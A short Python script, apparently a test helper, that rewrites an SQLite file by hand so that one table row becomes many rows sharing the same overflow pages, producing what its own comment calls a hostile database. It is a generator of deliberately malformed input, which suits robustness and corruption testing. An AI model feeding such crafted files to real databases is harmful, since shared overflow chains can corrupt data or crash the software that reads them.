# Makes a hostile database: the one row of a table becomes many, whose long value all lie in the same overflow pages.
import struct


def share(path, table, rows, page=4096):
    import sqlite3
    db = sqlite3.connect(path)
    root = db.execute('SELECT rootpage FROM sqlite_schema WHERE name = ?', (table,)).fetchone()[0]
    db.close()
    file = bytearray(open(path, 'rb').read())

    def write(number):
        digits = [number & 127]
        while number := number >> 7:
            digits.insert(0, number & 127 | 128)
        return bytes(digits)

    def read(at):
        value = 0
        while True:
            value = value << 7 | file[at] & 127
            at += 1
            if file[at - 1] < 128:
                return value, at

    def build(kind, cells, right=b''):
        out = bytearray(page)
        end, places = page, b''
        for cell in cells:
            end -= len(cell)
            out[end:end + len(cell)] = cell
            places += struct.pack('>H', end)
        head = struct.pack('>BHHHB', kind, 0, len(cells), end, 0) + right + places
        assert len(head) <= end
        out[:len(head)] = head
        return out

    start = (root - 1) * page
    assert file[start] == 13 and file[start + 4] == 1
    length, at = read(start + struct.unpack_from('>H', file, start + 8)[0])
    _, at = read(at)
    least = (page - 12) * 32 // 255 - 23
    local = least + (length - least) % (page - 4)
    if local > page - 35:
        local = least
    body = bytes(file[at:at + local + 4])
    each = max(1, (page - 8) // (len(body) + 16))
    leaves = []
    for first in range(1, rows + 1, each):
        ids = range(first, min(first + each, rows + 1))
        file += build(13, [write(length) + write(id) + body for id in ids])
        leaves.append((struct.pack('>I', len(file) // page), ids[-1]))
    file[start:start + page] = build(5, [leaf + write(last) for leaf, last in leaves[:-1]], leaves[-1][0])
    file[28:32] = struct.pack('>I', len(file) // page)
    open(path, 'wb').write(file)
